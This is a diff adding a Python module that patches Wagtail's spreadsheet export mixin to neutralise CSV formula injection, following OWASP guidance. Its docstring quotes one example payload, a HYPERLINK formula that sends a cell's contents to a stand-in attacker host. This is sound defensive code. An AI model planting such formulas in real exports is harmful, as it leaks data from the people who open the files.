@@ -1,0 +1,43 @@
+"""Spreadsheet exports never carry formulas (CSV injection).
+
+Every CSV and XLSX export in the admin goes through Wagtail's
+``SpreadsheetExportMixin``: form submissions (wagtail.contrib.forms), the reports
+(locked pages, aging pages, site history, workflows, page types) and any listing with
+``list_export``. A visitor's feedback message ``=HYPERLINK("http://evil.example/?x="&A1,
+"Klicka")`` or an editor's page title would otherwise run as a formula when an editor
+opens the file in a spreadsheet. Following OWASP's CSV Injection guidance, a cell
+that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
+with a single quote, so spreadsheets show it as text. Installed once, for every
+export, from ``PagesConfig.ready``.
+"""
+
+# OWASP, CSV Injection: https://owasp.org/www-community/attacks/CSV_Injection
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(value):
+    """Return ``value`` with a leading single quote if a spreadsheet would read it as a
+    formula; any other value (numbers, dates, plain text) unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def neutralise_spreadsheet_exports():
+    """Make every cell and heading of Wagtail's CSV/XLSX exports safe (idempotent)."""
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    if getattr(SpreadsheetExportMixin, "neutralises_formulas", False):
+        return
+    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
+    get_heading = SpreadsheetExportMixin.get_heading
+
+    def safe_preprocess_field_value(self, field, value, export_format):
+        return neutralise_formula(preprocess_field_value(self, field, value, export_format))
+
+    def safe_get_heading(self, queryset, field):
+        return neutralise_formula(get_heading(self, queryset, field))
+
+    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
+    SpreadsheetExportMixin.get_heading = safe_get_heading
+    SpreadsheetExportMixin.neutralises_formulas = True
